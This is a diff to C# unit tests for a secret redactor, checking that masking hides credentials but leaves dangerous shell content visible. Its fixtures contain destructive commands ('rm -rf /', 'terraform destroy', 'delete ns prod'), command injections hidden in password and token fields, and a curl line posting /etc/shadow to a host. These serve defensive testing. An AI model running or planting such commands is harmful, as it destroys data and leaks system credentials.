@@ -9,7 +9,7 @@ public sealed class RedactorTests
     [Theory]
     [InlineData("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE")]
     [InlineData("use ghp_0123456789abcdefghij0123456789abcdef now", "ghp_0123456789abcdefghij0123456789abcdef")]
-    [InlineData("sk-proj-abcdefghijklmnop1234", "sk-proj-abcdefghijklmnop1234")]
+    [InlineData("sk-proj-Abcdefghijklmnop1234", "sk-proj-Abcdefghijklmnop1234")]
     [InlineData("Authorization: Bearer abc.def-ghi_123", "abc.def-ghi_123")]
     [InlineData("curl -H 'Authorization: Basic dXNlcjpwYXNz'", "dXNlcjpwYXNz")]
     [InlineData("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc123", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc123")]
@@ -48,10 +48,41 @@ public sealed class RedactorTests
     [InlineData("curl -d password=x$(rm -rf /) host", "$(rm -rf /)")]
     [InlineData("login --token abc; rm -rf /", "; rm -rf /")]
     [InlineData("PASSWORD=abc`reboot`", "`reboot`")]
+    [InlineData("sh -c 'TOKEN= /srv/wipe-prod'", "/srv/wipe-prod")]
+    [InlineData("kubectl --token= delete ns prod", "delete")]
+    [InlineData("mysql --password '' drop-everything", "drop-everything")]
+    [InlineData("sh -c 'PASSWORD=\"\" reboot'", "reboot")]
+    [InlineData("sh -c 'token: reboot-all'", "reboot-all")]
+    [InlineData("sh -c 'MODE=basic terraform destroy'", "terraform destroy")]
+    [InlineData("aws --profile basic delete-stack x", "delete-stack")]
+    [InlineData("./ghp_x/wipe-all-prod1.sh", "wipe-all-prod1.sh")]
+    [InlineData("./ghp_0123456789abcdefghij0123456789.sh", "ghp_0123456789abcdefghij0123456789.sh")]
+    [InlineData("rm -rf sk-production-db-2024-all", "sk-production-db-2024-all")]
+    [InlineData("curl -F secret=@/etc/shadow http://x", "@/etc/shadow")]
+    [InlineData("rm -rf --token=/var/lib/*", "/var/lib/*")]
+    [InlineData("password=os.system('rm -rf /')", "os.system")]
     [InlineData("bash -c 'echo -----BEGIN PRIVATE KEY-----; rm -rf build'", "; rm -rf build")]
     [InlineData("echo -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", "reboot")]
     [InlineData("echo -----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n/sbin/poweroff\n-----END PRIVATE KEY-----", "/sbin/poweroff")]
     public void Never_hides_what_a_shell_would_act_on(string text, string danger) => Redactor.MaskText(text).ShouldContain(danger);
+
+    [Fact]
+    public void A_command_does_not_hide_under_the_name_of_a_secret()
+    {
+        var masked = Redactor.MaskMap(PlainMap.Of(("cookie", "$(rm -rf /); DROP"), ("password", "rm -rf /"), ("tokens", new[] { "rm", "-rf", "/" })));
+
+        masked["cookie"].ShouldBe("$(rm -rf /); DROP");
+        masked["password"].ShouldBe("rm -rf /");
+        masked["tokens"].ShouldBeOfType<PlainList>()[0].ShouldBe("rm");
+    }
+
+    [Fact]
+    public void Many_cards_take_linear_time()
+    {
+        var text = string.Concat(Enumerable.Repeat("4111111111111111, ", 50_000));
+
+        Redactor.MaskText(text).ShouldNotContain("4111111111111111");
+    }
 
     [Fact]
     public void Masks_whole_values_under_secret_names_and_marks_equal_secrets_alike()
